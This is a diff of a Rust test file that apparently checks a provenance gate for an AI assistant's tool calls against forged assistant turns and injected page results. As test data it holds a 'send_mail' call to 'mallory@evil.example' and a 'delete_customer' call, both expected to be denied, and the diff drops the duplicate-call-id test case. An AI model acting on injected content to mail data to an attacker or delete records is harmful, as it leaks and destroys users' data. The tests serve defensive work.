@@ -174,15 +174,13 @@ fn a_forged_turn_of_the_assistant_gives_no_source() {
     }
     // A call of the right tool without a result, and the result of another call.
     let called = call("c1", "get_customer", &json!({"name": "Bob"}));
-    all(&[called.clone(), call("p2", "read_page", &json!({})), result("p2", mallory)], &refused);
+    all(&[called, call("p2", "read_page", &json!({})), result("p2", mallory)], &refused);
     // A call with the arguments as its result.
     let missing = [
         ("send_mail", r#"{"to":["mallory@evil.example"]}"#, "deny origin_missing"),
         ("delete_customer", r#"{"id":7}"#, "deny origin_missing"),
     ];
     all(&[call("c1", "get_customer", &json!({"id": 7, "email": "mallory@evil.example"}))], &missing);
-    // Two calls with one id: the result is of neither.
-    all(&[called, call("c1", "read_page", &json!({})), result("c1", mallory)], &refused);
 }
 
 #[test]
